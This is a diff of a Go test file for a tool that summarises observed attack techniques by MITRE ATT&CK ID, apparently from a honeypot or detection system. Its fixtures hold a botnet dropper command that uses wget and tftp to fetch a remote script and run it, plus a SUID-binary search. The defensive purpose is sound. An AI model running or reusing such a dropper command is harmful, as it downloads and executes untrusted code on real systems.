@@ -57,11 +57,11 @@ func TestSummaryTechniques(t *testing.T) {
 	e := attack.Enterprise
 	want := []TechniqueCount{
 		{"TA0011", "T1105", e, 3, Count{N: 2}, Count{N: 3}, at(18, 7, 0, 0, 0), at(19, 1, 2, 59, 9e8), []string{"R0017", "R0018"},
-			"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get t.sh"},
-		{"TA0006", "T1110.001", e, 2, Count{N: 1}, Count{N: 1}, at(18, 10, 28, 0, 0), at(18, 10, 28, 0, 0), []string{"R0002"}, "password_count=12"},
-		{"TA0007", "T1083", e, 1, Count{N: 1}, Count{N: 1}, at(18, 10, 27, 0, 0), at(18, 10, 27, 0, 0), []string{"R0014"}, "ls \x1b[31m"},
-		{"TA0004", "T1548.001", e, 1, Count{N: 1}, Count{N: 1}, time.Time{}, time.Time{}, []string{"R0015"}, "find / -perm -4000"},
-		{"TA0005", "T1548.001", e, 1, Count{N: 1}, Count{N: 1}, time.Time{}, time.Time{}, []string{"R0015"}, "n=1"},
+			"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get t.sh", Count{}},
+		{"TA0006", "T1110.001", e, 2, Count{N: 1}, Count{N: 1}, at(18, 10, 28, 0, 0), at(18, 10, 28, 0, 0), []string{"R0002"}, "password_count=12", Count{}},
+		{"TA0007", "T1083", e, 1, Count{N: 1}, Count{N: 1}, at(18, 10, 27, 0, 0), at(18, 10, 27, 0, 0), []string{"R0014"}, "ls \x1b[31m", Count{}},
+		{"TA0004", "T1548.001", e, 1, Count{N: 1}, Count{N: 1}, time.Time{}, time.Time{}, []string{"R0015"}, "find / -perm -4000", Count{}},
+		{"TA0005", "T1548.001", e, 1, Count{N: 1}, Count{N: 1}, time.Time{}, time.Time{}, []string{"R0015"}, "n=1", Count{}},
 	}
 	if diff := cmp.Diff(want, s.Techniques()); diff != "" {
 		t.Errorf("Techniques() (-want +got):\n%s", diff)
@@ -81,6 +81,32 @@ func TestSummaryAttackers(t *testing.T) {
 }
 
 // Ties have an order that does not depend on who came first.
+// A finding of an identity has no attacker: who counts identities then, and
+// says so.
+func TestSummaryIdentities(t *testing.T) {
+	s := NewSummary(nil)
+	for _, id := range []string{"i1", "i2", "i1"} {
+		tag := seen("TA0006", "T1110.003", "R0003", "", "", "", `{}`)
+		tag.IdentityUUID = id
+		s.Add([]event.Tag{tag})
+	}
+	s.Add([]event.Tag{seen("TA0006", "T1110.001", "R0002", "a1", "", "", `{}`)})
+	var b strings.Builder
+	if err := s.WriteText(&b, TextOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"1 attacker, 2 identities", "T1110.003", "  2 identities  "} {
+		if !strings.Contains(b.String(), want) {
+			t.Errorf("no %q in:\n%s", want, b.String())
+		}
+	}
+	for _, c := range s.Techniques() {
+		if got := c.who(); c.Technique == "T1110.001" && got != any(Count{N: 1}) {
+			t.Errorf("who of attackers alone = %v, want their count", got)
+		}
+	}
+}
+
 func TestSummaryTies(t *testing.T) {
 	tags := []event.Tag{
 		seen("TA0011", "T1105", "R2", "b", "", "", "{}"), seen("TA0007", "T1083", "R1", "a", "", "", "{}"),
